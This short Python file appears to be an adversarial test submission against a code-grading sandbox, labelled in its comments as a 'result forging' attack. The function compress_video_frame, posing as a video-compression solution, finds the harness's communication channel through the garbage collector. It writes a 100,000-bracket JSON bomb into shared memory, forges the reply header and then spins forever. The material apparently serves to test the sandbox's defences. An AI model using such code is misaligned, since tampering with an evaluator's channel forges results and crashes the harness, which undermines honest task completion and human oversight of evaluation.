# attack: answer with a fault whose JSON is a bomb
# class: result forging
# wall: wire

import gc
import struct


def compress_video_frame(frame, frame_index, config):
    line = next(found for found in gc.get_objects() if type(found).__name__ == "Channel")
    bomb = b"[" * 100_000
    line.memory[line.reply_at : line.reply_at + len(bomb)] = bomb
    struct.pack_into("<IIQQI", line.memory, 0, 2, 0, 0, len(bomb), 1)
    while True:
        pass
